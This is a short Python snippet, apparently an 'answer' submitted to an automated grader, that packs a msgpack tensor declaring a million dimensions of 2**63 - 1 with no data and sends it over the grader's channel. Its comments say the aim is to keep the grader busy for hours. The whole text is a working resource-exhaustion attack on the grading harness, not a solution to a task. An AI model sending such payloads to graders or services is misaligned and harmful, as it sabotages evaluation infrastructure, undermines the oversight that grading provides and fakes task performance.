# %%answer hello_ranks
# tries: sends a tensor of no bytes with a million dimensions of 2**63 - 1
# unprotected: multiplying them keeps the grader busy for hours
# on: channel
def hello(number):
    tensor = msgpack.packb(["float32", [2**63 - 1] * 1_000_000, b""])
    event = ["value", msgpack.packb(msgpack.ExtType(1, tensor))]
    with socket.socket(fileno=os.dup(channel())) as out:
        out.sendall(msgpack.packb(event, use_bin_type=True))
    time.sleep(60)
